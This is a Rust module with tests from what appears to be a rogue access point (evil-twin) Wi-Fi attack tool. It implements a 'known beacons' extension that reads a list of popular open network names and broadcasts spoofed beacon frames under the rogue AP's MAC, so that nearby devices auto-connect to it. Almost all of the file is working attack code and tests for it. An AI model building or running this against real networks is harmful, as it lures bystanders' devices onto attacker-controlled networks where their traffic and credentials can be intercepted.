//! Known Beacons
//!
//! Broadcasts beacons for popular open networks so that nearby clients
//! which remember one of those names auto-connect to the rogue AP.
//!
//! Generation happens once, on the first frame the engine hands over.
//! From then on the same queue is returned on every call, whether the
//! build produced frames, failed, or the feature is switched off.

mod builder;
mod source;

pub use builder::{truncate_ssid, BeaconBuilder, KnownBeacon, AP_RATES, KNOWN_BEACON_CAPABILITY};
pub use source::{parse_ssid_line, SsidFile, SsidList, SsidSource};

use std::sync::Arc;

use tracing::{error, info};

use crate::config::{Config, OversizePolicy};
use crate::extension::{ChannelKey, Extension, FrameQueue, SharedData};

/// Operator notification once beacons are being sent
pub const STATUS_SENDING: &str = "Sending known beacons...";

/// How the generator armed
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BuildOutcome {
    /// Feature switched off; the queue stays empty
    Disabled,
    /// Beacons built from the SSID source
    Built { frames: usize },
    /// The source could not be read; the queue stays empty
    Failed,
}

/// One-shot generation gate
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum TriggerState {
    #[default]
    Uninitialized,
    /// Terminal
    Armed(BuildOutcome),
}

/// Known beacons frame generator
#[derive(Debug)]
pub struct KnownBeacons<S = SsidFile> {
    data: Arc<SharedData>,
    source: S,
    oversize: OversizePolicy,
    state: TriggerState,
    queue: FrameQueue,
}

impl KnownBeacons<SsidFile> {
    /// Generator reading the SSID file named in the configuration
    pub fn from_config(config: &Config) -> Self {
        KnownBeacons::new(
            Arc::new(SharedData::from(config)),
            SsidFile::new(&config.known_beacons.ssid_file),
        )
        .with_oversize_policy(config.known_beacons.oversize)
    }
}

impl<S: SsidSource> KnownBeacons<S> {
    pub fn new(data: Arc<SharedData>, source: S) -> Self {
        Self {
            data,
            source,
            oversize: OversizePolicy::default(),
            state: TriggerState::Uninitialized,
            queue: FrameQueue::new(),
        }
    }

    pub fn with_oversize_policy(mut self, oversize: OversizePolicy) -> Self {
        self.oversize = oversize;
        self
    }

    pub fn state(&self) -> TriggerState {
        self.state
    }

    /// Frames queued for all channels
    pub fn frames(&self) -> &[Vec<u8>] {
        self.queue
            .get(&ChannelKey::All)
            .map(Vec::as_slice)
            .unwrap_or(&[])
    }

    /// Performs the single `Uninitialized -> Armed` transition
    fn arm(&mut self) {
        self.queue.insert(ChannelKey::All, Vec::new());

        let outcome = if !self.data.known_beacons {
            BuildOutcome::Disabled
        } else {
            let builder = BeaconBuilder::new(self.data.rogue_ap_mac, self.data.target_ap_channel)
                .with_oversize_policy(self.oversize);

            match builder.build(&self.source) {
                Ok(beacons) => {
                    info!(
                        "Known beacons: {} frames for {} on channel {}",
                        beacons.len(),
                        self.data.rogue_ap_mac,
                        self.data.target_ap_channel
                    );
                    let frames: Vec<Vec<u8>> = beacons.iter().map(KnownBeacon::to_bytes).collect();
                    let count = frames.len();
                    self.queue.insert(ChannelKey::All, frames);
                    BuildOutcome::Built { frames: count }
                }
                Err(e) => {
                    error!("Known beacons disabled: {}", e);
                    BuildOutcome::Failed
                }
            }
        };

        self.state = TriggerState::Armed(outcome);
    }
}

impl<S: SsidSource> Extension for KnownBeacons<S> {
    fn name(&self) -> &'static str {
        "knownbeacons"
    }

    fn get_packet(&mut self, _received: &[u8]) -> &FrameQueue {
        if self.state == TriggerState::Uninitialized {
            self.arm();
        }
        &self.queue
    }

    fn status_message(&self) -> Vec<String> {
        match self.state {
            TriggerState::Armed(BuildOutcome::Built { frames })
                if frames > 0 && self.data.known_beacons =>
            {
                vec![STATUS_SENDING.to_string()]
            }
            _ => Vec::new(),
        }
    }

    fn interesting_channels(&self) -> Vec<u8> {
        vec![self.data.target_ap_channel]
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::Cell;
    use std::io::Write;

    use crate::error::Result;
    use crate::wireless::ieee80211::{parse_ieee80211, ElementId, ManagementFrame, MacAddr};
    use crate::wireless::radiotap::parse_radiotap;

    const AP_MAC: [u8; 6] = [0x00, 0x11, 0x22, 0x33, 0x44, 0x55];

    /// Counts how often the generator reads it
    struct CountingSource {
        inner: SsidList,
        reads: Cell<usize>,
    }

    impl CountingSource {
        fn new(lines: &[&str]) -> Self {
            Self {
                inner: SsidList::new(lines.iter().copied()),
                reads: Cell::new(0),
            }
        }
    }

    impl SsidSource for &CountingSource {
        fn describe(&self) -> String {
            self.inner.describe()
        }

        fn read_lines(&self) -> Result<Vec<String>> {
            self.reads.set(self.reads.get() + 1);
            self.inner.read_lines()
        }
    }

    fn shared(enabled: bool, channel: u8) -> Arc<SharedData> {
        Arc::new(SharedData {
            rogue_ap_mac: MacAddr::new(AP_MAC),
            known_beacons: enabled,
            target_ap_channel: channel,
        })
    }

    fn ssids_of(frames: &[Vec<u8>]) -> Vec<String> {
        frames
            .iter()
            .map(|bytes| {
                let (_, offset) = parse_radiotap(bytes).unwrap();
                match parse_ieee80211(&bytes[offset..]).unwrap().body {
                    ManagementFrame::Beacon(b) => b.ssid,
                    other => panic!("expected beacon, got {:?}", other),
                }
            })
            .collect()
    }

    #[test]
    fn test_idempotent_after_arming() {
        let mut generator = KnownBeacons::new(
            shared(true, 6),
            SsidList::new(["CoffeeNet", "FreeWiFi", "AirportWiFi"]),
        );

        let first = generator.get_packet(&[]).clone();
        for _ in 0..5 {
            assert_eq!(generator.get_packet(b"any frame"), &first);
        }
        assert_eq!(generator.state(), TriggerState::Armed(BuildOutcome::Built { frames: 3 }));
    }

    #[test]
    fn test_source_read_once() {
        let source = CountingSource::new(&["CoffeeNet", "FreeWiFi"]);
        let mut generator = KnownBeacons::new(shared(true, 6), &source);

        for _ in 0..10 {
            generator.get_packet(&[]);
        }
        assert_eq!(source.reads.get(), 1);
        assert_eq!(generator.frames().len(), 2);
    }

    #[test]
    fn test_no_read_before_first_packet() {
        let source = CountingSource::new(&["CoffeeNet"]);
        let generator = KnownBeacons::new(shared(true, 6), &source);

        assert_eq!(generator.state(), TriggerState::Uninitialized);
        assert!(generator.status_message().is_empty());
        assert_eq!(source.reads.get(), 0);
    }

    #[test]
    fn test_order_preserved() {
        let mut generator = KnownBeacons::new(
            shared(true, 6),
            SsidList::new(["CoffeeNet", "FreeWiFi", "AirportWiFi"]),
        );

        let queue = generator.get_packet(&[]);
        assert_eq!(queue.len(), 1);
        assert!(!queue.contains_key(&ChannelKey::Channel(6)));
        assert_eq!(
            ssids_of(&queue[&ChannelKey::All]),
            vec!["CoffeeNet", "FreeWiFi", "AirportWiFi"]
        );
    }

    #[test]
    fn test_comment_skipped() {
        let mut generator = KnownBeacons::new(shared(true, 6), SsidList::new(["# ignore me", "RealSSID"]));
        generator.get_packet(&[]);
        assert_eq!(ssids_of(generator.frames()), vec!["RealSSID"]);
    }

    #[test]
    fn test_disabled_feature() {
        let source = CountingSource::new(&["CoffeeNet"]);
        let mut generator = KnownBeacons::new(shared(false, 6), &source);

        for _ in 0..3 {
            let queue = generator.get_packet(&[]);
            assert!(queue.values().all(Vec::is_empty));
            assert!(generator.status_message().is_empty());
        }
        assert_eq!(generator.state(), TriggerState::Armed(BuildOutcome::Disabled));
        assert_eq!(source.reads.get(), 0);
    }

    #[test]
    fn test_status_message_is_a_query() {
        let mut generator = KnownBeacons::new(shared(true, 6), SsidList::new(["CoffeeNet"]));
        assert!(generator.status_message().is_empty());

        generator.get_packet(&[]);
        assert_eq!(generator.status_message(), vec![STATUS_SENDING.to_string()]);
        assert_eq!(generator.status_message(), vec![STATUS_SENDING.to_string()]);
    }

    #[test]
    fn test_no_status_after_empty_build() {
        let source = CountingSource::new(&["# only comments", ""]);
        let mut generator = KnownBeacons::new(shared(true, 6), &source);
        assert!(generator.get_packet(&[]).values().all(Vec::is_empty));
        assert_eq!(generator.state(), TriggerState::Armed(BuildOutcome::Built { frames: 0 }));
        assert!(generator.status_message().is_empty());

        // Armed for good: nothing is re-read and the status stays quiet
        generator.get_packet(&[]);
        assert_eq!(source.reads.get(), 1);
        assert!(generator.status_message().is_empty());
    }

    #[test]
    fn test_no_status_when_every_ssid_skipped() {
        let mut generator = KnownBeacons::new(shared(true, 6), SsidList::new(["L".repeat(40)]))
            .with_oversize_policy(OversizePolicy::Skip);
        assert!(generator.get_packet(&[]).values().all(Vec::is_empty));
        assert_eq!(generator.state(), TriggerState::Armed(BuildOutcome::Built { frames: 0 }));
        assert!(generator.status_message().is_empty());
    }

    #[test]
    fn test_interesting_channels_independent_of_state() {
        let mut generator = KnownBeacons::new(shared(true, 11), SsidList::new(["CoffeeNet"]));
        assert_eq!(generator.interesting_channels(), vec![11]);
        generator.get_packet(&[]);
        assert_eq!(generator.interesting_channels(), vec![11]);

        let mut disabled = KnownBeacons::new(shared(false, 1), SsidList::default());
        disabled.get_packet(&[]);
        assert_eq!(disabled.interesting_channels(), vec![1]);
    }

    #[test]
    fn test_frame_fields() {
        let mut generator = KnownBeacons::new(shared(true, 9), SsidList::new(["CoffeeNet", "FreeWiFi"]));

        for bytes in generator.get_packet(&[])[&ChannelKey::All].iter() {
            let (_, offset) = parse_radiotap(bytes).unwrap();
            let frame = parse_ieee80211(&bytes[offset..]).unwrap();

            assert_eq!(frame.destination(), MacAddr::BROADCAST);
            assert_eq!(frame.source(), MacAddr::new(AP_MAC));
            assert_eq!(frame.bssid(), MacAddr::new(AP_MAC));

            let ManagementFrame::Beacon(beacon) = frame.body else {
                panic!("not a beacon");
            };
            assert_eq!(beacon.capability, KNOWN_BEACON_CAPABILITY);
            assert_eq!(beacon.element(ElementId::SupportedRates).unwrap().data, AP_RATES);
            assert_eq!(beacon.channel, Some(9));
        }
    }

    #[test]
    fn test_missing_file_arms_without_retry() {
        let mut config = Config::default();
        config.known_beacons.enabled = true;
        config.known_beacons.ssid_file = "/nonexistent/known-open-wlans".into();

        let mut generator = KnownBeacons::from_config(&config);
        assert!(generator.get_packet(&[]).values().all(Vec::is_empty));
        assert_eq!(generator.state(), TriggerState::Armed(BuildOutcome::Failed));
        assert!(generator.status_message().is_empty());

        // Still failed, still empty: no second attempt
        assert!(generator.get_packet(&[]).values().all(Vec::is_empty));
        assert_eq!(generator.state(), TriggerState::Armed(BuildOutcome::Failed));
    }

    #[test]
    fn test_file_read_once_even_if_it_changes() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(file, "# known open networks\nCoffeeNet\nFreeWiFi").unwrap();
        file.flush().unwrap();

        let mut config = Config::default();
        config.known_beacons.enabled = true;
        config.known_beacons.ssid_file = file.path().to_path_buf();

        let mut generator = KnownBeacons::from_config(&config);
        assert_eq!(generator.get_packet(&[])[&ChannelKey::All].len(), 2);

        writeln!(file, "AirportWiFi").unwrap();
        file.flush().unwrap();
        assert_eq!(generator.get_packet(&[])[&ChannelKey::All].len(), 2);
    }

    #[test]
    fn test_oversize_policy_from_config() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        writeln!(file, "{}", "x".repeat(40)).unwrap();
        file.flush().unwrap();

        let mut config = Config::default();
        config.known_beacons.enabled = true;
        config.known_beacons.ssid_file = file.path().to_path_buf();

        let mut skip = KnownBeacons::from_config(&config);
        assert!(skip.get_packet(&[]).values().all(Vec::is_empty));

        config.known_beacons.oversize = OversizePolicy::Truncate;
        let mut truncate = KnownBeacons::from_config(&config);
        truncate.get_packet(&[]);
        assert_eq!(ssids_of(truncate.frames()), vec!["x".repeat(32)]);
    }

    #[test]
    fn test_usable_as_trait_object() {
        let mut extensions: Vec<Box<dyn Extension>> = vec![Box::new(KnownBeacons::new(
            shared(true, 6),
            SsidList::new(["CoffeeNet"]),
        ))];

        for ext in extensions.iter_mut() {
            assert_eq!(ext.name(), "knownbeacons");
            let queue = ext.get_packet(&[]);
            assert_eq!(queue[&ChannelKey::All].len(), 1);
        }
    }
}
